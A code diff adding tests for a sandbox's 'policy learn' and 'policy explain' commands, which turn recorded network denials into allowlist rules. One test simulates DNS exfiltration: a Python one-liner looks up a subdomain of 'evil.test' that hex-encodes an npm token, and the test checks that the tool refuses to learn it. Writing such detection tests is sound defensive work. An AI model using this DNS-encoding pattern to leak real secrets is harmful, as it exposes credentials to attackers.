@@ -1,4 +1,4 @@
-import { writeFileSync } from 'node:fs';
+import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import { Place } from './cofferdam.fixture.ts';
@@ -49,5 +49,42 @@ describe('cofferdam policy diff', () => {
     expect(ran.status).toBe(2);
     expect((await place.run(['policy', 'diff', 'defaults', 'absent.yaml'])).status).toBe(2);
     expect((await place.run(['policy', 'diff', 'defaults', '/dev/zero'])).status).toBe(2);
+  });
+});
+
+describe('cofferdam policy learn and explain', () => {
+  test('turn a run that was denied into one that is not, and leave out what carries data', async () => {
+    const policy = file('policy.yaml', 'version: 1\nzones: {untrusted: {egress: {allow: []}}}\n');
+    mkdirSync(join(place.directory, 'work'));
+    const ask =
+      "import socket\nfor n in ['wanted.test', '6e706d5f746f6b656e3d61626364656667.evil.test']:\n  try: socket.getaddrinfo(n, 443)\n  except OSError: pass";
+    const ran = await place.run(['exec', '--workdir', 'work', '--', 'python3', '-c', ask]);
+    expect(ran.status).toBe(0);
+    const learned = await place.run(['policy', 'learn', '--file', policy, '--write']);
+    expect(learned.stdout).toMatch(/^\+.*- wanted\.test #/m);
+    expect(learned.stdout).toMatch(
+      /left out {2}6e706d5f746f6b656e3d61626364656667\.evil\.test .*looks like data/,
+    );
+    expect(learned.status).toBe(1);
+    const explained = await place.run(['policy', 'explain', '--host', 'wanted.test', '--file', policy]);
+    expect(explained.stdout).toMatch(/^ALLOWED {2}wanted\.test:443 /);
+    expect(explained.status).toBe(0);
+    expect((await place.run(['policy', 'learn', 'latest', '--file', policy])).stdout).not.toContain(
+      '+ added',
+    );
+  });
+
+  test('explain an event of a record by its number', async () => {
+    mkdirSync(join(place.directory, 'work'));
+    const ask = "import socket\ntry: socket.getaddrinfo('wanted.test', 443)\nexcept OSError: pass";
+    await place.run(['exec', '--workdir', 'work', '--', 'python3', '-c', ask]);
+    const shown = await place.run(['audit', 'show', 'latest']);
+    const number = /^ *(\d+) .*dns\.question/m.exec(shown.stdout)?.[1] ?? '';
+    const explained = await place.run(['policy', 'explain', 'latest', number, '--file', 'defaults']);
+    expect(explained.stdout).toContain('DENIED  wanted.test:443');
+    expect(explained.stdout).toContain('then    denied (not-on-allowlist)');
+    expect(explained.stdout).toContain('line    - wanted.test:443');
+    expect(explained.status).toBe(1);
+    expect((await place.run(['policy', 'explain', 'latest', '0'])).status).toBe(2);
   });
 });
